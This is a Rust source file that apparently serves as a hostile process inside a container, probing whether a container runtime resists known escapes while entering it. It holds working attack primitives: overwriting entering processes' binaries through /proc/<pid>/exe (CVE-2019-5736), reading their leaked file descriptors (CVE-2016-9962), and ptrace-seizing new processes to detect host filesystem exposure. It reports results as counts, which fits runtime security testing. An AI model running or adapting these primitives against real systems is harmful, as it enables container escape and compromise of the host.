//! What a hostile process in the container does while a runtime enters it.

use std::collections::BTreeSet;
use std::fs;
use std::io::{Seek, Write};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

/// Processes that are not this program: those that are only just entering.
fn strangers() -> Vec<u32> {
    let own = fs::read_link("/proc/self/exe").ok();
    let mut found = Vec::new();
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Some(pid) = entry
            .file_name()
            .to_str()
            .and_then(|name| name.parse().ok())
        else {
            continue;
        };
        let exe = fs::read_link(format!("/proc/{pid}/exe")).ok();
        if pid != std::process::id() && exe != own {
            found.push(pid);
        }
    }
    found
}

/// CVE-2019-5736: opens the program of everybody who enters, and writes into it as soon as
/// nobody runs it any more. Writes back what was there.
pub fn overwrite(seconds: f64) -> Value {
    let deadline = Instant::now() + Duration::from_secs_f64(seconds);
    let (mut opened, mut written) = (0, 0);
    let mut held: Vec<fs::File> = Vec::new();
    while Instant::now() < deadline {
        for pid in strangers() {
            if let Ok(file) = fs::File::open(format!("/proc/{pid}/exe")) {
                opened += 1;
                held.push(file);
            }
        }
        held.truncate(20);
        written += held.iter().filter(|file| write_back(file)).count();
    }
    json!({ "opened": opened, "written": written })
}

fn write_back(file: &fs::File) -> bool {
    use std::os::fd::AsRawFd;
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    let Ok(mut writable) = fs::OpenOptions::new().write(true).open(path) else {
        return false;
    };
    writable.rewind().is_ok() && writable.write_all(b"\x7fELF").is_ok()
}

/// CVE-2016-9962: what the descriptors of those who enter point to.
pub fn look(seconds: f64) -> Value {
    let deadline = Instant::now() + Duration::from_secs_f64(seconds);
    let mut targets = BTreeSet::new();
    let mut seen = BTreeSet::new();
    while Instant::now() < deadline {
        for pid in strangers() {
            seen.insert(pid);
            for entry in fs::read_dir(format!("/proc/{pid}/fd"))
                .into_iter()
                .flatten()
                .flatten()
            {
                if let Ok(target) = fs::read_link(entry.path()) {
                    targets.insert(target.to_string_lossy().into_owned());
                }
            }
        }
    }
    json!({ "strangers": seen.len(), "targets": targets })
}

/// A tracer of whoever comes next: how many could be seized, and how many of them while their root still had
/// `host`, a file of the host's.
pub fn seize(seconds: f64, host: &str) -> Value {
    let deadline = Instant::now() + Duration::from_secs_f64(seconds);
    let (mut seized, mut outside, mut tries) = (BTreeSet::new(), 0, 0_u64);
    while Instant::now() < deadline {
        for pid in 2..200 {
            tries += 1;
            if seized.contains(&pid) || ptrace(libc::PTRACE_SEIZE, pid) != 0 {
                continue;
            }
            seized.insert(pid);
            ptrace(libc::PTRACE_INTERRUPT, pid);
            let stopped = nix::unistd::Pid::from_raw(pid);
            let _ = nix::sys::wait::waitpid(stopped, Some(nix::sys::wait::WaitPidFlag::__WALL));
            outside += i32::from(fs::exists(format!("/proc/{pid}/root{host}")).unwrap_or(false));
            ptrace(libc::PTRACE_DETACH, pid);
        }
    }
    json!({ "seized": seized.len(), "outside": outside, "tries": tries })
}

fn ptrace(request: impl Into<i64>, pid: i32) -> i64 {
    // SAFETY: requests that take no address.
    unsafe { libc::syscall(libc::SYS_ptrace, request.into(), pid, 0, 0) }
}
